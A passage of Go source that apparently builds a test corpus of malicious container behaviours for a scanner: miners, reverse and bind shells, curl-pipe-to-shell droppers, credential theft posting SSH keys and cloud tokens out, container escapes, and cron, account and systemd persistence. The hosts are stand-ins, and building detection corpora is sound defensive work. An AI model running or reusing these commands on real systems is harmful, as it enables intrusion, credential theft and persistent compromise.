package corpus

import (
	"fmt"
	"strings"
	"time"

	"github.com/sandscan/sandscan/internal/imagebuild"
)

// Remote ends: reserved names and documentation addresses only.
var (
	c2Hosts   = []string{"c2.example", "198.51.100.23", "203.0.113.77", "192.0.2.99", "update.cdn.example", "198.51.100.140"}
	c2Ports   = []int{4444, 443, 8443, 1337, 9001, 53, 8080, 31337}
	poolHosts = []string{"pool.minexmr.example", "203.0.113.10", "xmr.pool.example", "198.51.100.20", "192.0.2.50", "gulf.moneroocean.example"}
	poolPorts = []int{3333, 4444, 5555, 14444, 7777, 10128, 443}
	dlHosts   = []string{"dl.example", "192.0.2.10", "cdn.files.example", "203.0.113.45", "198.51.100.9"}
	dropDirs  = []string{"/tmp", "/dev/shm", "/var/tmp", "/run", "/root/.cache"}
	dropNames = []string{".kworker", "kdevtmpfsi", ".x", "systemd-update", ".ICE-unix-x", "dbused", "sshd-helper"}
)

// wallet is shaped like a Monero address and belongs to nobody.
func wallet(i int) string {
	return "4" + strings.Repeat(fmt.Sprintf("Sandscan%dCorpus", i%10), 8)[:94]
}

func minerVariants() []Variant {
	var out []Variant
	names := []string{"xmrig", "kdevtmpfsi", "systemd-helper", ".x", "kthreaddk", "php-fpm"}

	f := newFamily(Cryptominer, "miner-go-stratum", Busybox)
	for i := 0; i < 10; i++ {
		pool := fmt.Sprintf("%s:%d,%s:%d", pick(poolHosts, i), pick(poolPorts, i), pick(poolHosts, i+3), pick(poolPorts, i+2))
		bin := "/usr/local/bin/" + pick(names, i)
		if i%2 == 1 {
			f.addExec("a miner binary as the entrypoint: stratum login, then hashing", []string{pick([]string{"/usr/local/bin/", "/opt/", "/usr/sbin/"}, i) + pick(names, i+2),
				"mine", "-addr", pool, "-wallet", wallet(i), "-agent", fmt.Sprintf("XMRig/6.%d.0", 18+i%4), "-tries", fmt.Sprint(1 + i%3),
				"-secs", fmt.Sprint(3 + i%6), "-threads", fmt.Sprint(1 + i%2)})
			continue
		}
		f.add("a miner binary: stratum login to its pools, then hashing on every thread", fmt.Sprintf(`cp %s %s
%s dial -addr %s -payload stratum -wallet %s -agent XMRig/6.%d.0 -tries %d
exec %s burn -secs %d -threads %d
`, BehavePath, bin, bin, pool, wallet(i), 18+i%4, 1+i%3, bin, 3+i%6, 1+i%2))
	}
	out = append(out, f.out...)

	f = newFamily(Cryptominer, "miner-sh-loop", Busybox)
	for i := 0; i < 8; i++ {
		pool := pick(poolHosts, i+1)
		f.add("a shell miner: pool check-in with nc, then hashing loops in the background", fmt.Sprintf(`echo '{"method":"login","params":{"login":"%s","agent":"xmr-stak"}}' | timeout 2 nc %s %d
n=$(nproc)
for t in $(seq 1 $n); do
  ( while true; do head -c 65536 /dev/urandom | %s > /dev/null; done ) &
done
sleep %d
kill $(jobs -p) 2>/dev/null
`, wallet(i), pool, pick(poolPorts, i), pick([]string{"sha256sum", "md5sum", "sha512sum"}, i), 20+i), withTimeout(time.Duration(5+i%4)*time.Second))
	}
	out = append(out, f.out...)

	f = newFamily(Cryptominer, "miner-python", Debian)
	for i := 0; i < 7; i++ {
		f.add("a Python miner: stratum over a socket, hashing threads", fmt.Sprintf(`python3 - <<'EOF'
import socket, hashlib, threading, time, json
for host, port in [("%s", %d), ("%s", %d)]:
    try:
        s = socket.create_connection((host, port), timeout=1)
        s.sendall((json.dumps({"id": 1, "method": "login", "params": {"login": "%s", "agent": "pyminer/1.%d"}}) + "\n").encode())
        break
    except OSError as e:
        print("pool", host, e)
def work(n):
    end = time.time() + %d
    h = b"x"
    while time.time() < end:
        h = hashlib.sha256(h).digest()
ts = [threading.Thread(target=work, args=(i,)) for i in range(%d)]
[t.start() for t in ts]; [t.join() for t in ts]
EOF
`, pick(poolHosts, i), pick(poolPorts, i), pick(poolHosts, i+2), pick(poolPorts, i+4), wallet(i), i, 3+i%5, 1+i%3), withTimeout(12*time.Second))
	}
	out = append(out, f.out...)

	f = newFamily(Cryptominer, "miner-node-perl", Debian)
	for i := 0; i < 6; i++ {
		host, port := pick(poolHosts, i+4), pick(poolPorts, i+1)
		if i%2 == 0 {
			f.add("a Node.js miner: pool socket, hashing loop", fmt.Sprintf(`node -e '
const net = require("net"), c = require("crypto");
const s = net.connect(%d, "%s"); s.on("error", e => console.log("pool", e.code));
s.on("connect", () => s.write(JSON.stringify({method: "login", params: {login: "%s"}}) + "\n"));
const end = Date.now() + %d000; let h = "x";
(function spin() { for (let i = 0; i < 20000; i++) h = c.createHash("sha256").update(h).digest("hex"); if (Date.now() < end) setImmediate(spin); else process.exit(0); })();
'
`, port, host, wallet(i), 3+i%4), withTimeout(12*time.Second))
		} else {
			f.add("a Perl miner: pool socket, hashing loop", fmt.Sprintf(`perl -MIO::Socket::INET -MDigest::SHA=sha256 -e '
my $s = IO::Socket::INET->new(PeerAddr => "%s:%d", Timeout => 1);
print $s "{\"method\":\"login\",\"params\":{\"login\":\"%s\"}}\n" if $s;
my $end = time + %d; my $h = "x"; $h = sha256($h) while time < $end;'
`, host, port, wallet(i), 3+i%4), withTimeout(12*time.Second))
		}
	}
	out = append(out, f.out...)

	f = newFamily(Cryptominer, "miner-fetch-run", Busybox)
	for i := 0; i < 7; i++ {
		dir, name := pick(dropDirs, i), pick(names, i+1)
		f.add("downloads a miner and its config, falls back to a bundled copy, runs it detached", fmt.Sprintf(`cd %s 2>/dev/null || cd /tmp
timeout 3 wget -q -O %s http://%s/xmrig-6.%d-linux-static.tar.gz || cp %s ./%s
echo '{"pools":[{"url":"%s:%d","user":"%s"}]}' > config.json
chmod +x ./%s
nohup ./%s burn -secs %d -threads 2 > /dev/null 2>&1 &
sleep 20
`, dir, name, pick(dlHosts, i), 20+i, BehavePath, name, pick(poolHosts, i), pick(poolPorts, i+3), wallet(i), name, name, 4+i%4), withTimeout(time.Duration(6+i%3)*time.Second))
	}
	out = append(out, f.out...)
	return out
}

func backdoorVariants() []Variant {
	var out []Variant
	f := newFamily(Backdoor, "backdoor-nc", Busybox)
	for i := 0; i < 7; i++ {
		h, p := pick(c2Hosts, i), pick(c2Ports, i)
		f.add("netcat reverse shell with retries", fmt.Sprintf(`for try in $(seq 1 %d); do
  nc %s %d -e /bin/sh && break
  sleep 0.%d
done
`, 2+i%4, h, p, 2+i%7))
	}
	out = append(out, f.out...)

	f = newFamily(Backdoor, "backdoor-bash-devtcp", Debian)
	for i := 0; i < 7; i++ {
		h, p := pick(c2Hosts, i+1), pick(c2Ports, i+2)
		f.add("bash /dev/tcp reverse shell, retried", fmt.Sprintf(`for try in $(seq 1 %d); do
  bash -i >& /dev/tcp/%s/%d 0>&1 && break
  sleep 0.%d
done
`, 2+i%3, h, p, 3+i%5))
	}
	out = append(out, f.out...)

	f = newFamily(Backdoor, "backdoor-interpreter", Debian)
	for i := 0; i < 9; i++ {
		h, p := pick(c2Hosts, i+2), pick(c2Ports, i+3)
		f.add("reverse shell in an interpreter (python, perl, awk, node, socat)", pick([]string{
			fmt.Sprintf(`python3 -c 'import socket,os,pty
s=socket.socket(); s.settimeout(2)
s.connect(("%s",%d)); [os.dup2(s.fileno(),f) for f in (0,1,2)]; pty.spawn("/bin/sh")'`, h, p),
			fmt.Sprintf(`perl -e 'use Socket;$i="%s";$p=%d;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'`, pick([]string{"198.51.100.23", "203.0.113.77", "192.0.2.99"}, i), p),
			fmt.Sprintf(`gawk 'BEGIN { s = "/inet/tcp/0/%s/%d"; while ((s |& getline c) > 0) { while ((c |& getline) > 0) print $0 |& s; close(c) } }'`, pick([]string{"198.51.100.23", "203.0.113.77", "192.0.2.99"}, i), p),
			fmt.Sprintf(`node -e 'const n=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);const c=n.connect(%d,"%s",()=>{c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c)});c.on("error",()=>process.exit(1))'`, p, h),
			fmt.Sprintf(`socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:%s:%d,connect-timeout=2`, h, p),
			fmt.Sprintf(`rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc -w 2 %s %d > /tmp/f`, h, p),
		}, i)+"\n", withTimeout(10*time.Second))
	}
	out = append(out, f.out...)

	f = newFamily(Backdoor, "backdoor-go-revshell", Busybox)
	for i := 0; i < 7; i++ {
		addrs := fmt.Sprintf("%s:%d,%s:%d", pick(c2Hosts, i), pick(c2Ports, i+1), pick(c2Hosts, i+3), pick(c2Ports, i+4))
		bin := pick([]string{"/usr/local/bin/agent", "/usr/sbin/sshd-session", "/tmp/.s", "/usr/local/bin/monitor"}, i)
		if i%2 == 1 {
			f.addExec("a reverse shell binary as the entrypoint", []string{pick([]string{"/usr/local/bin/agent", "/usr/sbin/sshd-session", "/usr/local/bin/monitor"}, i),
				"revshell", "-addr", addrs, "-tries", fmt.Sprint(2 + i%3)})
			continue
		}
		f.add("compiled reverse shell: connect back, dup onto stdio, exec a shell", fmt.Sprintf(`mkdir -p %s
cp %s %s
exec %s revshell -addr %s -tries %d -interval %dms
`, dirOf(bin), BehavePath, bin, bin, addrs, 2+i%3, 200+100*(i%3)))
	}
	out = append(out, f.out...)

	f = newFamily(Backdoor, "backdoor-bind-shell", Busybox)
	for i := 0; i < 6; i++ {
		p := pick([]int{4444, 31337, 9999, 2222, 12345, 65000}, i)
		f.add("bind shell: a shell served on a port on every interface", pick([]string{
			fmt.Sprintf("timeout %d nc -lk -p %d -e /bin/sh\n", 4+i%3, p),
			fmt.Sprintf("timeout %d telnetd -F -p %d -l /bin/sh\n", 4+i%3, p),
			fmt.Sprintf("nc -l -p %d -e /bin/sh &\nsleep 3\necho id | timeout 2 nc 127.0.0.1 %d\n", p, p),
		}, i), withTimeout(8*time.Second))
	}
	out = append(out, f.out...)
	return out
}

func dropperVariants() []Variant {
	var out []Variant
	stage2 := "IyEvYmluL3NoCmVjaG8gc3RhZ2UgdHdvOyBpZCA+IC90bXAvLmlkOyB1bmFtZSAtYQo=" // #!/bin/sh; echo stage two; id > /tmp/.id; uname -a

	f := newFamily(Dropper, "dropper-wget-sh", Busybox)
	for i := 0; i < 8; i++ {
		dir, name, host := pick(dropDirs, i), pick(dropNames, i), pick(dlHosts, i)
		f.add("downloads a second stage (embedded fallback), makes it executable, runs and deletes it", fmt.Sprintf(`mkdir -p %s
timeout 3 wget -q -O %s/%s http://%s/%s || echo %s | base64 -d > %s/%s
chmod +x %s/%s
%s/%s
rm -f %s/%s
`, dir, dir, name, host, pick([]string{"x", "p.sh", "bins/x86_64", "i.sh"}, i), stage2, dir, name, dir, name, dir, name, dir, name))
	}
	out = append(out, f.out...)

	f = newFamily(Dropper, "dropper-curl-pipe", Debian)
	for i := 0; i < 7; i++ {
		host := pick(dlHosts, i+1)
		f.add("curl or wget piped to a shell, then the fetched binary run from a writable dir", fmt.Sprintf(`(curl -fsSL --max-time 2 http://%s/install.sh || wget -q -T 2 -O - http://%s/i.sh) | %s
d=%s; n=%s
curl -fsS --max-time 2 -o $d/$n http://%s/bin/amd64 || cp %s $d/$n
chmod 755 $d/$n
$d/$n compute -secs 0.5 -out $d/.o
rm -f $d/$n
`, host, host, pick([]string{"sh", "bash", "bash -s"}, i), pick(dropDirs, i+2), pick(dropNames, i+1), host, BehavePath), withTimeout(10*time.Second))
	}
	out = append(out, f.out...)

	f = newFamily(Dropper, "dropper-interpreter", Debian)
	for i := 0; i < 7; i++ {
		dir, name, host := pick(dropDirs, i+1), pick(dropNames, i+3), pick(dlHosts, i+2)
		f.add("a script downloader (python/perl) writing and executing a payload", pick([]string{
			fmt.Sprintf(`python3 - <<'EOF'
import urllib.request, os, base64, subprocess
p = "%s/%s"
try:
    data = urllib.request.urlopen("http://%s/payload", timeout=2).read()
except Exception:
    data = base64.b64decode("%s")
open(p, "wb").write(data); os.chmod(p, 0o755)
subprocess.call([p]); os.remove(p)
EOF
`, dir, name, host, stage2),
			fmt.Sprintf(`perl -MIO::Socket::INET -MMIME::Base64 -e '
my $p = "%s/%s"; my $d;
my $s = IO::Socket::INET->new(PeerAddr => "%s:80", Timeout => 2);
if ($s) { print $s "GET /p HTTP/1.0\r\n\r\n"; local $/; $d = <$s>; } else { $d = decode_base64("%s"); }
open(F, ">", $p); print F $d; close F; chmod 0755, $p; system($p); unlink $p;'
`, dir, name, pick([]string{"192.0.2.10", "203.0.113.45", "198.51.100.9"}, i), stage2),
		}, i), withTimeout(10*time.Second))
	}
	out = append(out, f.out...)

	f = newFamily(Dropper, "dropper-memfd", Busybox)
	for i := 0; i < 6; i++ {
		if i%2 == 1 {
			f.addExec("a loader binary that runs its payload from a memfd", []string{"/usr/local/bin/" + pick([]string{"loader", "init-helper", "php"}, i),
				"memfd", "-name", pick([]string{"kworker", "", "x"}, i), "-then", pick([]string{"compute -secs 0.5 -out /tmp/.r", "recon -users", "burn -secs 1 -threads 1"}, i)})
			continue
		}
		f.add("fileless: copies itself into a memfd and executes it from there", fmt.Sprintf(`timeout 2 wget -q -O /dev/null http://%s/cfg || true
exec %s memfd -name %s -then "%s"
`, pick(dlHosts, i), BehavePath, pick([]string{"kworker", "", "x", "[kthreadd]", "php"}, i),
			pick([]string{"compute -secs 0.5 -out /dev/shm/.r", "recon -users", "dial -addr 203.0.113.45:443 -payload beacon", "burn -secs 1 -threads 1"}, i)))
	}
	out = append(out, f.out...)

	f = newFamily(Dropper, "dropper-copy-exec", Busybox)
	for i := 0; i < 7; i++ {
		dir, name := pick(dropDirs, i+3), pick(dropNames, i+2)
		f.add("unpacks a bundled payload to a hidden file, runs it in the background, removes the evidence", fmt.Sprintf(`mkdir -p %s
cp %s %s/%s
chmod +x %s/%s
(%s/%s dial -addr %s:%d -payload beacon -tries 2 &)
sleep 1
rm -f %s/%s
`, dir, BehavePath, dir, name, dir, name, dir, name, pick(c2Hosts, i), pick(c2Ports, i), dir, name))
	}
	out = append(out, f.out...)
	return out
}

func credentialVariants() []Variant {
	var out []Variant
	sets := [][]string{
		{"/etc/shadow", "/root/.ssh/id_rsa"},
		{"/root/.aws/credentials", "/root/.docker/config.json", "/root/.kube/config"},
		{"/var/run/secrets/kubernetes.io/serviceaccount/token", "/root/.git-credentials", "/root/.netrc"},
		{"/etc/shadow", "/root/.pgpass", "/srv/app/.env"},
		{"/root/.ssh/id_rsa", "/root/.aws/credentials", "/var/run/secrets/kubernetes.io/serviceaccount/token", "/etc/shadow"},
	}
	secretEnv := withEnv("AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "DB_PASSWORD=not-a-password", "GITHUB_TOKEN=ghp_sandscanfaketoken000000000000000000")

	f := newFamily(CredentialTheft, "cred-tar-wget", Busybox)
	for i := 0; i < 8; i++ {
		files := strings.Join(pick(sets, i), " ")
		arc := pick([]string{"/tmp/.X11-cache.tgz", "/dev/shm/.c", "/var/tmp/.cache.tar.gz", "/tmp/.ssh-agent"}, i)
		f.add("collects credential files and env secrets into an archive and posts it", fmt.Sprintf(`env | grep -iE 'key|secret|token|pass' > /tmp/.env 2>/dev/null
tar czf %s %s /tmp/.env 2>/dev/null
timeout 3 wget -q --post-file=%s http://%s/upload -O /dev/null || echo exfil failed
rm -f %s /tmp/.env
`, arc, files, arc, pick(dlHosts, i), arc), withFiles(credentialFiles...), secretEnv)
	}
	out = append(out, f.out...)

	f = newFamily(CredentialTheft, "cred-cat-nc", Busybox)
	for i := 0; i < 7; i++ {
		f.add("reads credential files and pipes them, base64-encoded, to a listener", fmt.Sprintf(`for f in %s; do echo "== $f"; cat $f; done 2>/dev/null | base64 > /tmp/.b
cat /proc/1/environ 2>/dev/null | tr '\0' '\n' >> /tmp/.b
timeout 2 nc %s %d < /tmp/.b || true
`, strings.Join(pick(sets, i+1), " "), pick(c2Hosts, i), pick(c2Ports, i+2)), withFiles(credentialFiles...), secretEnv)
	}
	out = append(out, f.out...)

	f = newFamily(CredentialTheft, "cred-search", Debian)
	for i := 0; i < 7; i++ {
		f.add("searches the filesystem for keys and passwords, then exfiltrates with curl", fmt.Sprintf(`grep -rIlE '%s' /root /home /etc /srv /var/run/secrets 2>/dev/null | head -n 50 > /tmp/.hits
find / -xdev \( -name 'id_rsa*' -o -name '*.pem' -o -name 'credentials' -o -name '.pgpass' -o -name '*.kdbx' \) 2>/dev/null >> /tmp/.hits
tar cjf /tmp/.loot.tbz $(cat /tmp/.hits) 2>/dev/null
curl -s --max-time 2 -F "f=@/tmp/.loot.tbz" http://%s/%s || true
`, pick([]string{"PRIVATE KEY|password", "aws_secret|AKIA", "token|passwd", "BEGIN OPENSSH"}, i), pick(dlHosts, i+1), pick([]string{"u", "upload.php", "api/v1/drop"}, i)),
			withFiles(credentialFiles...), withTimeout(12*time.Second))
	}
	out = append(out, f.out...)

	f = newFamily(CredentialTheft, "cred-python", Debian)
	for i := 0; i < 7; i++ {
		f.add("a Python stealer: reads cloud and SSH credentials and env, posts JSON", fmt.Sprintf(`python3 - <<'EOF'
import os, json, glob, urllib.request
loot = {"env": {k: v for k, v in os.environ.items() if any(w in k for w in ("KEY", "SECRET", "TOKEN", "PASS"))}}
for p in %s + glob.glob("/home/*/.ssh/*"):
    try:
        loot[p] = open(p).read()
    except Exception as e:
        loot[p] = str(e)
try:
    urllib.request.urlopen(urllib.request.Request("http://%s/c", data=json.dumps(loot).encode()), timeout=2)
except Exception as e:
    open("/tmp/.loot.json", "w").write(json.dumps(loot))
EOF
`, pyList(pick(sets, i+2)), pick(dlHosts, i+3)), withFiles(credentialFiles...), secretEnv)
	}
	out = append(out, f.out...)

	f = newFamily(CredentialTheft, "cred-shadow-crack", Busybox)
	for i := 0; i < 6; i++ {
		f.add("dumps account hashes and the process environments for offline cracking", fmt.Sprintf(`cut -d: -f1,2 /etc/shadow > /tmp/.h
for p in /proc/[0-9]*; do cat $p/environ 2>/dev/null | tr '\0' '\n' | grep -iE 'pass|key|token'; done >> /tmp/.h
%s
wc -l /tmp/.h
`, pick([]string{"cat /root/.ssh/id_rsa >> /tmp/.h", "cp /etc/shadow /dev/shm/.s", "cat /etc/passwd /etc/shadow | gzip > /var/tmp/.p.gz", "true"}, i)), withFiles(credentialFiles...), secretEnv)
	}
	out = append(out, f.out...)
	return out
}

func escapeVariants() []Variant {
	var out []Variant
	steps := []string{
		"mount,unshare,ptrace,module,core,cgroup,docker",
		"docker,mount,chroot",
		"cgroup,core",
		"unshare,setns,ptrace",
		"module,bpf,keyctl,devmem",
		"core,sysrq,mount",
		"docker,cgroup,unshare,setns",
	}
	f := newFamily(Escape, "escape-go", Busybox)
	for i := 0; i < 10; i++ {
		if i%2 == 1 {
			f.addExec("a breakout tool as the entrypoint: "+pick(steps, i), []string{pick([]string{"/usr/local/bin/cdk", "/usr/bin/deepce", "/opt/tool"}, i), "escape", "-steps", pick(steps, i)})
			continue
		}
		f.add("compiled breakout attempts: "+pick(steps, i), fmt.Sprintf("exec %s escape -steps %s\n", BehavePath, pick(steps, i)))
	}
	out = append(out, f.out...)

	f = newFamily(Escape, "escape-shell", Busybox)
	for i := 0; i < 8; i++ {
		f.add("shell breakout attempts with busybox tools", pick([]string{
			"mkdir -p /mnt/host && mount /dev/sda1 /mnt/host || mount /dev/vda1 /mnt/host\nls /mnt/host/etc 2>&1 | head -n 2\n",
			"nsenter -t 1 -m -u -i -n -p sh -c 'cat /etc/hostname'\nchroot /proc/1/root /bin/sh -c id\n",
			"echo '|/tmp/.h %p' > /proc/sys/kernel/core_pattern\necho '#!/bin/sh' > /tmp/.h\ncat /proc/sys/kernel/core_pattern\n",
			"d=/tmp/cgrp; mkdir -p $d && mount -t cgroup -o rdma cgroup $d; mkdir -p $d/x\necho 1 > $d/x/notify_on_release\necho /tmp/.h > $d/release_agent\nsh -c 'echo $$ > /tmp/cgrp/x/cgroup.procs'\n",
			"unshare -Urm sh -c 'mount -t tmpfs none /mnt && id'\nunshare -p -f --mount-proc sh -c 'ps'\n",
			"ls -la /var/run/docker.sock /run/containerd/containerd.sock 2>&1\necho -e 'GET /containers/json HTTP/1.0\\r\\n' | timeout 2 nc local:/var/run/docker.sock\n",
			"cat /proc/1/mountinfo | grep -E 'docker|overlay'\nls /dev/sd* /dev/vd* /dev/nvme* 2>&1\nmount -t proc proc /mnt 2>&1\n",
			"echo c > /proc/sysrq-trigger\ninsmod /tmp/rootkit.ko\nmodprobe -a overlay\n",
		}, i))
	}
	out = append(out, f.out...)

	f = newFamily(Escape, "escape-debian-tools", Debian)
	for i := 0; i < 7; i++ {
		f.add("breakout attempts with util-linux and curl", pick([]string{
			"curl -s --max-time 2 --unix-socket /var/run/docker.sock http://localhost/containers/json || true\ncurl -s --max-time 2 --unix-socket /var/run/docker.sock -X POST http://localhost/containers/create -d '{\"Image\":\"alpine\",\"HostConfig\":{\"Privileged\":true}}' || true\n",
			"nsenter --target 1 --mount --uts --ipc --net --pid -- bash -c id\n",
			"mkdir -p /mnt/root; mount /dev/sda1 /mnt/root; mount /dev/nvme0n1p1 /mnt/root; chroot /mnt/root /bin/bash -c id\n",
			"unshare --user --map-root-user --mount bash -c 'mount --bind /proc /mnt; id'\ncapsh --print 2>/dev/null || grep Cap /proc/self/status\n",
			"python3 -c \"import ctypes; l=ctypes.CDLL(None); print(l.mount(b'/dev/sda1', b'/mnt', b'ext4', 0, None), l.unshare(0x10000000))\"\n",
			"echo '|/bin/bash -c id' > /proc/sys/kernel/core_pattern\nsysctl -w kernel.core_pattern='|/tmp/x'\n",
			"for c in /sys/fs/cgroup/*/; do mkdir -p $c/x && echo 1 > $c/x/notify_on_release; echo /tmp/.h > ${c}release_agent; done 2>&1 | head -n 3\n",
		}, i))
	}
	out = append(out, f.out...)
	return out
}

func reconVariants() []Variant {
	var out []Variant
	f := newFamily(Recon, "recon-shell", Busybox)
	cmds := []string{"id", "uname -a", "cat /etc/passwd", "ps", "netstat -an", "ip addr", "ifconfig", "cat /proc/net/tcp",
		"ls -la /root", "find / -perm -4000 -type f 2>/dev/null", "env", "mount", "cat /proc/self/cgroup", "hostname", "df",
		"cat /etc/hosts", "cat /proc/cpuinfo | head -n 8", "route -n", "arp -a", "who", "cat /proc/1/cmdline"}
	for i := 0; i < 10; i++ {
		var sel []string
		for j := 0; j < 6+i%5; j++ {
			sel = append(sel, pick(cmds, i*3+j*2))
		}
		f.add("host and container discovery with shell tools", "{\n"+strings.Join(sel, "\n")+"\n} > /tmp/.info 2>&1\nwc -l /tmp/.info\n")
	}
	out = append(out, f.out...)

	f = newFamily(Recon, "recon-portscan", Busybox)
	portsets := []string{"22 80 443 2375 2379 3306 5432 6379 8080 10250", "$(seq 1 200)", "21 22 23 25 53 80 110 143 443 445 3389", "2375 2376 6443 10250 10255 4194", "$(seq 8000 8100)"}
	for i := 0; i < 7; i++ {
		host := pick([]string{"127.0.0.1", "192.0.2.1", "198.51.100.1", "203.0.113.1", "192.0.2.254"}, i)
		f.add("a TCP port scan of the host and its neighbours with nc", fmt.Sprintf(`for p in %s; do
  nc -z -w 1 %s $p 2>/dev/null && echo "open $p"
done
%s
`, pick(portsets, i), host, pick([]string{"nslookup kubernetes.default.svc.example", "timeout 2 wget -q -O - http://metadata.example/latest/meta-data/", "ping -c 1 -W 1 192.0.2.1", "true"}, i)))
	}
	out = append(out, f.out...)

	f = newFamily(Recon, "recon-go", Busybox)
	for i := 0; i < 7; i++ {
		if i%2 == 1 {
			f.addExec("a discovery binary as the entrypoint", append([]string{pick([]string{"/usr/local/bin/probe", "/usr/bin/sysinfo", "/opt/agent"}, i), "recon"},
				strings.Fields(pick([]string{"-procs -net -users -scan 22,80,443,2375,2379,3306,6379,8080,10250", "-net -users -procs", "-procs -scan 21,22,23,25,80,110,443,445,3306,5432,6379,8080,9200"}, i))...))
			continue
		}
		f.add("compiled discovery: /proc walk, network tables, accounts, local ports", fmt.Sprintf("%s recon %s\n", BehavePath, pick([]string{
			"-procs -net -users -scan 22,80,443,2375,2379,3306,6379,8080,10250",
			"-procs -scan 1,2,3,4,5,6,7,8,9,10,11,12,13,14,15,16,17,18,19,20,21,22,23,25,53,80",
			"-net -users",
			"-procs -net",
			"-users -scan 5432,27017,9200,11211,6443 -host 203.0.113.254",
			"-procs -users -net -scan 8080,8443,9090,3000",
			"-net -scan 2375,2376,10250,10255",
		}, i)))
	}
	out = append(out, f.out...)

	f = newFamily(Recon, "recon-debian-tools", Debian)
	for i := 0; i < 7; i++ {
		f.add("discovery with nmap, ss, ps, dig and lsblk", pick([]string{
			"nmap -sT -Pn -p 1-1000 --max-retries 0 127.0.0.1 | tail -n 5\n",
			"ss -tulpn; ps auxww; cat /etc/passwd | cut -d: -f1; ip route; cat /proc/self/status | grep Cap\n",
			"dig +time=1 +tries=1 any kubernetes.default.svc.example; getent hosts metadata.example; cat /etc/resolv.conf\n",
			"for i in $(seq 1 254); do (timeout 0.2 bash -c \"echo > /dev/tcp/127.0.0.$i/22\" 2>/dev/null && echo up $i) & done; wait\n",
			"python3 -c \"import socket; print([p for p in range(1, 1025) if socket.socket().connect_ex(('127.0.0.1', p)) == 0])\"\n",
			"lsblk 2>/dev/null; fdisk -l 2>&1 | head; cat /proc/mounts; uname -a; cat /etc/os-release; id; sudo -l 2>&1\n",
			"find / -xdev -writable -type d 2>/dev/null | head -n 40; find / -perm -u=s -type f 2>/dev/null\n",
		}, i), withTimeout(10*time.Second))
	}
	out = append(out, f.out...)
	return out
}

func persistenceVariants() []Variant {
	var out []Variant
	payload := pick(dropNames, 0)
	f := newFamily(Persistence, "persist-cron", Busybox)
	for i := 0; i < 8; i++ {
		sched := pick([]string{"* * * * *", "*/5 * * * *", "@reboot", "0 * * * *", "*/2 * * * *"}, i)
		cmd := fmt.Sprintf("wget -q -O - http://%s/s.sh | sh", pick(dlHosts, i))
		f.add("installs a cron job that re-downloads the implant", pick([]string{
			fmt.Sprintf("(crontab -l 2>/dev/null; echo '%s %s') | crontab -\ncrontab -l\n", sched, cmd),
			fmt.Sprintf("echo '%s root %s' > /etc/cron.d/%s\nchmod 644 /etc/cron.d/%s\n", sched, cmd, pick([]string{"sysupdate", "0hourly", "apt-compat", "php"}, i), pick([]string{"sysupdate", "0hourly", "apt-compat", "php"}, i)),
			fmt.Sprintf("mkdir -p /var/spool/cron/crontabs\necho '%s %s' >> /var/spool/cron/crontabs/root\n", sched, cmd),
		}, i))
	}
	out = append(out, f.out...)

	f = newFamily(Persistence, "persist-rcfiles", Busybox)
	for i := 0; i < 8; i++ {
		line := fmt.Sprintf("nohup /tmp/%s >/dev/null 2>&1 &", payload)
		f.add("hooks shell start-up and boot files", pick([]string{
			fmt.Sprintf("echo '%s' >> /root/.bashrc\necho '%s' >> /root/.profile\n", line, line),
			fmt.Sprintf("printf '#!/bin/sh\\n%s\\nexit 0\\n' > /etc/rc.local\nchmod +x /etc/rc.local\n", line),
			fmt.Sprintf("echo '%s' > /etc/profile.d/%s.sh\n", line, pick([]string{"locale", "update", "colors"}, i)),
			fmt.Sprintf("printf '#!/bin/sh\\n### BEGIN INIT INFO\\n# Provides: netsvc\\n### END INIT INFO\\n%s\\n' > /etc/init.d/netsvc\nchmod 755 /etc/init.d/netsvc\nln -s ../init.d/netsvc /etc/rc2.d/S99netsvc 2>/dev/null || mkdir -p /etc/rc2.d && ln -sf ../init.d/netsvc /etc/rc2.d/S99netsvc\n", line),
		}, i))
	}
	out = append(out, f.out...)

	f = newFamily(Persistence, "persist-accounts", Busybox)
	for i := 0; i < 8; i++ {
		key := fmt.Sprintf("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAISandscanCorpusFakeKey%02d attacker@c2.example", i)
		f.add("adds an SSH key or a root-equivalent account", pick([]string{
			fmt.Sprintf("mkdir -p /root/.ssh && chmod 700 /root/.ssh\necho '%s' >> /root/.ssh/authorized_keys\nchmod 600 /root/.ssh/authorized_keys\n", key),
			fmt.Sprintf("echo '%s:x:0:0::/root:/bin/sh' >> /etc/passwd\necho '%s:$6$salt$fakehash:19700:0:99999:7:::' >> /etc/shadow\n", pick([]string{"sysadm", "backup2", "toor"}, i), pick([]string{"sysadm", "backup2", "toor"}, i)),
			fmt.Sprintf("mkdir -p /home/www/.ssh\necho '%s' > /home/www/.ssh/authorized_keys\nsed -i 's#^www-data:x:33:33:www-data:/var/www:/bin/false#www-data:x:0:0:www-data:/var/www:/bin/sh#' /etc/passwd\n", key),
			fmt.Sprintf("echo '%s' >> /root/.ssh/authorized_keys2 2>/dev/null || (mkdir -p /root/.ssh; echo '%s' > /root/.ssh/authorized_keys2)\n", key, key),
		}, i))
	}
	out = append(out, f.out...)

	f = newFamily(Persistence, "persist-preload-systemd", Debian)
	for i := 0; i < 8; i++ {
		lib := pick([]string{"/usr/local/lib/libsystem.so", "/lib/x86_64-linux-gnu/libcext.so.2", "/usr/lib/libprocesshider.so"}, i)
		unit := pick([]string{"dbus-helper", "systemd-networkd-wait", "kube-proxy-agent", "cron-update"}, i)
		f.add("an ld.so.preload hook or a systemd unit that starts the implant", pick([]string{
			fmt.Sprintf("echo 'int x;' | gcc -shared -fPIC -x c -o %s -\necho %s > /etc/ld.so.preload\nls /\n", lib, lib),
			fmt.Sprintf("printf '[Unit]\\nDescription=%s\\n[Service]\\nExecStart=/usr/local/bin/%s\\nRestart=always\\n[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/%s.service\nmkdir -p /etc/systemd/system/multi-user.target.wants\nln -sf /etc/systemd/system/%s.service /etc/systemd/system/multi-user.target.wants/\ncp %s /usr/local/bin/%s\n", unit, unit, unit, unit, BehavePath, unit),
